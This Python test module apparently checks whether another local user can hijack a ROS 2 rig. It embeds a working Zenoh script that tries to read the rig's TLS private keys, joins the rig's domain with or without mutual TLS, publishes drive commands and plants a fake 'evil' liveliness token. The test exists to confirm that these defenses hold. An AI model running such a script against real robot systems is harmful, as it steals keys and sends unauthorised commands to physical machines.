"""Attacks on the domain of ROS 2 in which the nodes of a rig meet their bridge."""

from __future__ import annotations

import json

from attacks import Found, attack, refused_if
from theatre import Theatre

from twin.fabric.ros2.attachment import Attachment
from twin.fabric.ros2.graph import TopicType
from twin.fabric.ros2.names import EndpointQos, topic_key
from twin.fabric.ros2.place import MeetingPlace
from twin.fabric.ros2.session import Message, Ros2Session, Token

COMMAND = TopicType("drivetwin_msgs/msg/DriveCommand", "RIHS01_" + "0" * 64)
TOPIC = "/drivetwin/command"

COMMANDS = """
import json, os, sys, zenoh
port, key, ours, attachment, *keys = sys.argv[1:]
places = [f"{protocol}/127.0.0.1:{port}" for protocol in ("tcp", "tls")]
files = dict(zip(("root_ca_certificate", "connect_certificate", "connect_private_key"), keys))
found = {"read": [], "inside": []}
assert all(open(path).read() for path in keys), "his own keys"
for path in json.loads(ours):
    try:
        found["read"].append(open(path).read()[:10])
    except OSError:
        pass
for mode in ("client", "peer"):
    for place in places:
        for tls in ({}, {**files, "enable_mtls": True, "verify_name_on_connect": False}):
            config = zenoh.Config()
            config.insert_json5("mode", json.dumps(mode))
            config.insert_json5("connect/endpoints", json.dumps([place]))
            config.insert_json5("connect/timeout_ms", "1500")
            config.insert_json5("connect/exit_on_failure", "true")
            config.insert_json5("scouting/multicast/enabled", "false")
            for name, value in tls.items():
                config.insert_json5(f"transport/link/tls/{name}", json.dumps(value))
            try:
                session = zenoh.open(config)
            except zenoh.ZError:
                continue
            found["inside"].append(f"{mode} {place} {len(tls)}")
            session.put(key, b"command", attachment=bytes.fromhex(attachment))
            token = session.liveliness().declare_token("@ros2_lv/0/ab/0/0/NN/%/%/evil")
            session.close()
print(json.dumps(found))
"""


@attack(2, "commands a rig's car over its ROS 2 domain", "another local user", "none", root=True)
def commands_over_ros2(theatre: Theatre) -> Found:
    """Where no sandbox gives the rig a loopback of its own: plain, without a certificate, and with
    one of a rig of his own; and reads the keys of the nodes."""
    place = MeetingPlace("rig", own_network=False)
    session = Ros2Session.listening(place, 0, "drivetwin")
    own = theatre.folder / "own"
    other = MeetingPlace("rig", own_network=False, folder=own)
    try:
        session.subscribe(TOPIC, COMMAND, EndpointQos())
        own.chmod(0o755)
        for path in own.iterdir():
            path.chmod(0o644)  # as if they were his
        variables = place.variables(session.endpoint, 0)
        _hears_its_own(session, variables)
        said = variables["ZENOH_CONFIG_OVERRIDE"]
        options = dict(option.split("=", 1) for option in said.split(";"))
        paths = [json.loads(value) for name, value in options.items() if "/tls/" in name]
        printed = theatre.as_nobody(
            COMMANDS,
            session.endpoint.rpartition(":")[2],
            topic_key(0, TOPIC, COMMAND.type, COMMAND.type_hash),
            json.dumps([path for path in paths if isinstance(path, str)]),
            Attachment(1, 0, bytes(16)).encoded().hex(),
            *(str(own / name) for name in ("authority.pem", "node.pem", "node.key")),
        )
        found = json.loads(printed)
        came = []
        while (arrived := session.receive(0.5)) is not None:
            if isinstance(arrived, Message) or (
                isinstance(arrived, Token) and "evil" in str(arrived)
            ):
                came.append(type(arrived).__name__)
    finally:
        session.close()
        other.close()
        place.close()
    return refused_if(
        not found["read"] and not came,
        "mutual TLS with a key of the rig alone; in a sandbox, a loopback of its own",
        f"read {len(found['read'])} keys, inside as {found['inside']}, came: {came}",
    )


def _hears_its_own(session: Ros2Session, variables: dict[str, str]) -> None:
    """Who has the rig's key is heard: otherwise the attack would show nothing."""
    friend = Ros2Session.joined(variables, "friend")
    friend.publish(TOPIC, COMMAND, EndpointQos()).put(b"command", 0)
    while not isinstance(arrived := session.receive(30.0), Message):
        assert arrived is not None, "the rig's own node is not heard"
    friend.close()
